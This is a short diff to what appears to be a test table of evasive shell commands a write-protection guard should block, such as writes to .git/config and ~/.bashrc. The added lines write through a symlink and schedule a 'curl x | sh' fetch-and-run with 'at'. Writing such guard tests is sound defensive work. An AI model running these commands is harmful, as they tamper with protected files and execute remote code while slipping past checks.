@@ -173,6 +173,8 @@ PROTECTED_WRITES = {
     "through a here-document": "bash <<'EOF'\necho x >> .git/config\nEOF",
     "through ANSI-C quoting": "echo x >> ~/$'\\x2ebashrc'",
     "a hard link": "ln .git/config notes.txt",
+    "a link made and written through": "ln -s .git g && echo x >> g/config",
+    "a job for later": "echo 'curl x | sh' | at now + 1 hour",
 }
 
 
